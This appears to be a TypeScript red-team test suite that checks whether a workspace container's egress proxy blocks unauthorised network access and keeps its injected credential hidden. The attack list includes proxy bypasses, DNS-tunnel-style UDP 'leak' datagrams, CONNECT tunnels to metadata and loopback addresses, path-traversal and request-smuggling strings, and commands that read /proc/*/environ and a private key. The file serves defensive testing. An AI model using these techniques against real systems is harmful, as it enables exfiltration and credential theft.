import { execFileSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll } from 'vitest'
import { DisposalStack } from '../../src/lib/lifetime/disposal-stack.ts'
import { uniqueName } from '../support/engine/docker.ts'
import { waitFor } from '../support/wait-for.ts'
import { startUpstream } from '../support/workspace/server/egress-proxy.ts'
import { startWorkspaceServer } from '../support/workspace/server/test-server.ts'
import { testAttacks } from './attack.ts'
import { startEngine } from './engine.ts'
import { type Hit, startCanary, startCanaryIn } from './network/canary.ts'
import { ADDRESSES, enteredNamespaces } from './network/namespaces.ts'
import { LOOPBACK_PORT, PORT } from './network/parts.ts'

const IMAGE = 'workspace-base:1'
const SECRET = 'egress-secret-4c1d9'
const DNS_PORT = 53
const QUIC_PORT = 443
/** Stands for the server's port, which is known once it runs. */
const API_PORT = 'API_PORT'

/** Names whose owner lets them resolve to addresses that only this host can reach, and one that does not. */
const NAMES = {
  'internet.test': ADDRESSES.internet,
  'metadata.test': ADDRESSES.metadata,
  'lan.test': ADDRESSES.lan,
  'host.test': ADDRESSES.second,
  'loopback.test': '127.0.0.1',
  'loopback6.test': '::1',
  'mapped.test': `::ffff:${ADDRESSES.metadata}`,
}

const workspace = uniqueName('egress')
const opened = new DisposalStack()
const hits: Hit[] = []
let upstream: Awaited<ReturnType<typeof startUpstream>>
let server: Awaited<ReturnType<typeof startWorkspaceServer>>
beforeAll(async () => {
  const { beyond } = enteredNamespaces()
  const onHit = (hit: Hit): void => void hits.push(hit)
  opened.defer(await startCanary('host', '::', PORT, onHit))
  opened.defer(await startCanary('host loopback', '127.0.0.1', LOOPBACK_PORT, onHit))
  for (const port of [PORT, DNS_PORT, QUIC_PORT])
    opened.defer(await startCanaryIn(beyond, `beyond ${port}`, port, onHit))
  upstream = await startUpstream()
  opened.defer(upstream.close)
  const directory = mkdtempSync(join(tmpdir(), 'redteam-'))
  opened.defer(() => rmSync(directory, { recursive: true, force: true }))
  const [caFile, secretFile] = [join(directory, 'ca.pem'), join(directory, 'secret')]
  writeFileSync(caFile, upstream.authority.certificate)
  writeFileSync(secretFile, SECRET)
  opened.defer(nameAddresses(directory))
  const engine = await startEngine(IMAGE)
  opened.defer(engine.remove)
  const to = { upstream: `https://localhost:${upstream.port}` }
  server = await startWorkspaceServer({
    settings: {
      default_image: IMAGE,
      docker: { host: engine.address },
      egress: {
        ca_file: caFile,
        secrets: { api: { file: secretFile } },
        profiles: {
          agents: {
            rules: [
              {
                host: 'api.test',
                methods: ['GET'],
                paths: ['/v1/**'],
                credential: { secret: 'api' },
                ...to,
              },
              { host: 'open.test', ...to },
              { host: 'localhost', port: LOOPBACK_PORT, scheme: 'http' },
              ...Object.keys(NAMES).map((host) => ({ host, port: PORT, scheme: 'http' })),
            ],
          },
        },
      },
    },
  })
  opened.defer(() => server.stop())
  const { status, body } = await server.create({
    name: workspace,
    network: { egress_profile: 'agents' },
  })
  if (status !== 201) throw new Error(JSON.stringify(body))
  opened.defer(() => server.api(`workspaces/${workspace}`, 'DELETE'))
  const works = await inside('curl -sS -m 10 https://api.test/v1/x')
  if (!works.includes('/v1/x')) throw new Error(`an allowed request fails: ${works}`)
  // The canary does not speak HTTP.
  await inside(`${CURL} http://internet.test:${PORT}/`)
  await waitFor('the request to a public address', () =>
    hits.some(({ canary }) => canary === `beyond ${PORT}`),
  )
})
afterAll(() => opened.close())

async function inside(line: string): Promise<string> {
  const { body } = await server.api(`workspaces/${workspace}/exec`, 'POST', {
    argv: ['/bin/sh', '-c', line],
    user: 'root',
    timeout_ms: 30_000,
  })
  return `${body.stdout}${body.stderr}`
}

/** Lets this run's processes resolve the names; the machine's own file stays as it is. */
function nameAddresses(directory: string): () => void {
  const file = join(directory, 'hosts')
  const lines = Object.entries(NAMES).map(([name, address]) => `${address} ${name}`)
  writeFileSync(file, [readFileSync('/etc/hosts', 'utf8'), ...lines, ''].join('\n'))
  execFileSync('mount', ['--bind', file, '/etc/hosts'])
  return () => execFileSync('umount', ['/etc/hosts'])
}

const CURL = "curl -sS -m 4 -o - -w ' %{http_code}'"
const DIRECT = `${CURL} --noproxy '*'`

const udp = (address: string, port: number): string =>
  `perl -MIO::Socket::IP -e 'my $s = IO::Socket::IP->new(Proto => "udp", PeerHost => "${address}", PeerPort => ${port}) or die $!; $s->send("leak"); $s->timeout(2); alarm 2; $s->recv(my $r, 100); print $r' 2>&1`
/** Sends bytes to the proxy as they are. */
const raw = (bytes: string): string =>
  `perl -MIO::Socket::INET -e 'my $s = IO::Socket::INET->new("127.0.0.1:3128") or die $!; print $s "${bytes}"; $s->flush; alarm 3; print while <$s>' 2>&1`

function attacks(): readonly (readonly [id: string, tries: string, line: string])[] {
  const { internet, lan, metadata, second, host, hostV6, uplink, uplinkV6 } = ADDRESSES
  const targets = { internet, lan, metadata, 'host-address': second }
  const names = Object.entries(targets)
  return [
    ...names.map(
      ([id, ip]) =>
        [`direct/${id}`, 'a connection without the proxy', `${DIRECT} http://${ip}:${PORT}/ 2>&1`] as const,
    ),
    ['direct/ipv6', 'a connection over IPv6', `${DIRECT} -6 'http://[${uplinkV6}]:${PORT}/' 2>&1`],
    [
      'direct/host-ipv6',
      'a connection to the host over IPv6',
      `${DIRECT} -6 'http://[${hostV6}]:${PORT}/' 2>&1`,
    ],
    ...names.map(
      ([id, ip]) => [`dns/${id}`, 'a datagram to port 53, as a DNS tunnel sends', udp(ip, DNS_PORT)] as const,
    ),
    ['dns/uplink', 'a datagram to the resolver of the uplink', udp(uplink, DNS_PORT)],
    ['dns/embedded', "a lookup through the engine's resolver", 'getent hosts leak.attacker.test; echo $?'],
    ['quic/internet', 'a datagram to port 443, as QUIC sends', udp(internet, QUIC_PORT)],
    ...[
      [`${metadata}:80`, 'the metadata address'],
      [`${internet}:${PORT}`, 'an address'],
      [`${lan}:${PORT}`, 'an address of the local network'],
      [`127.0.0.1:${LOOPBACK_PORT}`, "the host's loopback address"],
      [`localhost:${LOOPBACK_PORT}`, "the name of the host's loopback address"],
      [`[::1]:${PORT}`, "the host's IPv6 loopback address"],
      [`2130706433:${LOOPBACK_PORT}`, 'an address as one number'],
      [`0x7f000001:${LOOPBACK_PORT}`, 'an address in hexadecimal'],
      [`127.1:${LOOPBACK_PORT}`, 'a short address'],
      [`0.0.0.0:${PORT}`, 'the unspecified address'],
      [`${host}:${API_PORT}`, "the server's own API"],
      [`api.test:22`, 'another port of an allowed host'],
      [`api.test.:${PORT}`, 'a name with a final dot'],
      [`api.test@${metadata}:80`, 'an address behind a user name'],
      [`api.test%00.${metadata}:80`, 'an address behind an encoded NUL'],
    ].map(
      ([authority, what], index) =>
        [
          `connect/${index}`,
          `a tunnel to ${what}`,
          raw(
            `CONNECT ${authority?.replaceAll('@', '\\@') ?? ''} HTTP/1.1\\r\\nHost: api.test\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n`,
          ),
        ] as const,
    ),
    ...[
      [metadata, '/latest'],
      [`127.0.0.1:${LOOPBACK_PORT}`, '/'],
      [`localhost:${LOOPBACK_PORT}`, '/'],
      [`api.test\\@${metadata}`, '/'],
      [metadata, '#\\@api.test/'],
      [`${host}:${API_PORT}`, '/api/workspaces'],
    ].map(
      ([authority, path], index) =>
        [
          `absolute/${index}`,
          `a request for http://${authority}${path}`,
          raw(
            `GET http://${authority}${path} HTTP/1.1\\r\\nHost: ${authority}\\r\\nConnection: close\\r\\n\\r\\n`,
          ),
        ] as const,
    ),
    ...Object.keys(NAMES)
      .filter((name) => name !== 'internet.test')
      .map(
        (name) =>
          [
            `rebinding/${name}`,
            `an allowed name that resolves to ${NAMES[name as keyof typeof NAMES]}`,
            `${CURL} http://${name}:${PORT}/ 2>&1`,
          ] as const,
      ),
    [
      'tls/other-name',
      'a handshake and a Host of another server',
      `${CURL} --connect-to api.test:443:open.test:443 https://api.test/v1/x 2>&1`,
    ],
    ['tls/other-host', 'a Host of another server', `${CURL} https://open.test/v1/x -H 'Host: api.test' 2>&1`],
    ['tls/http2', 'HTTP/2 in a tunnel', `${CURL} --http2-prior-knowledge https://api.test/v1/x -X POST 2>&1`],
    [
      'tls/plain',
      'SSH in a tunnel',
      raw(`CONNECT api.test:443 HTTP/1.1\\r\\nHost: api.test:443\\r\\n\\r\\nSSH-2.0-x\\r\\n`),
    ],
    ...[
      '/v1/../admin',
      '/v1/%2e%2e/admin',
      '/v1/..%2fadmin',
      '/v1/%252e%252e/admin',
      '/v1/..;/admin',
      '/v1\\..\\admin',
      '//v1/x',
      '/admin',
      '/V1/x',
    ].map(
      (path, index) =>
        [`path/${index}`, `the path ${path}`, `${CURL} --path-as-is 'https://api.test${path}' 2>&1`] as const,
    ),
    ...['POST', 'DELETE', 'TRACE', 'CONNECT', 'get'].map(
      (method) =>
        [
          `method/${method}`,
          `the method ${method}`,
          `${CURL} -X ${method} https://api.test/v1/x 2>&1`,
        ] as const,
    ),
    [
      'override/method',
      'a header that replaces the method',
      `${CURL} -H 'X-HTTP-Method-Override: DELETE' https://api.test/admin 2>&1`,
    ],
    [
      'override/url',
      'a header that replaces the path',
      `${CURL} -H 'X-Original-URL: /admin' https://api.test/admin 2>&1`,
    ],
    [
      'smuggle/framing',
      'a request inside another',
      `${CURL} https://api.test/v1/x -H 'Transfer-Encoding: chunked' -H 'Content-Length: 4' --data-binary '0\r\n\r\nDELETE /admin HTTP/1.1\r\nHost: api.test\r\n\r\n' -X GET 2>&1`,
    ],
    [
      'smuggle/connection',
      'a Connection that removes a header',
      `${CURL} -H 'Connection: host, authorization' https://api.test/v1/x 2>&1`,
    ],
    [
      'read/environment',
      'the credential in environments',
      "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | sort -u | head -100",
    ],
    [
      'read/files',
      'the credential in files',
      `grep -rl ${SECRET} /etc /run /tmp /var /root /workspace /opt 2>/dev/null | xargs -r cat`,
    ],
    ['read/key', 'the key of the authority', 'cat /etc/ssl/workspace-egress.pem | grep -c PRIVATE'],
    [
      'read/echo',
      'its own Authorization sent to another host',
      `${CURL} https://open.test/echo -H 'X-Api-Key: \${api}' 2>&1`,
    ],
  ]
}

// Root in a container with an egress profile tries to reach anything but its rules, and to read the credential.
testAttacks(
  'egress',
  attacks().map(([id, tries, line]) => ({ id, tries, line })),
  async ({ line }) => {
    hits.length = upstream.received.length = 0
    const printed = await inside(line.replaceAll(API_PORT, String(server.httpPort)))
    const forbidden = upstream.received.filter(
      ({ method, url, headers }) =>
        headers.host?.startsWith('localhost') !== true ||
        (headers.authorization !== undefined && (method !== 'GET' || url !== '/v1/x')),
    )
    const harm = [
      ...hits.map(({ canary }) => `the canary ${canary} was reached`),
      ...forbidden.map(({ method, url }) => `the server received ${method} ${url} with the credential`),
      ...(printed.includes(SECRET) ? ['the credential was read'] : []),
    ]
    return { harm, seen: (printed.trim().split('\n').at(-1) ?? '').slice(0, 80) }
  },
)
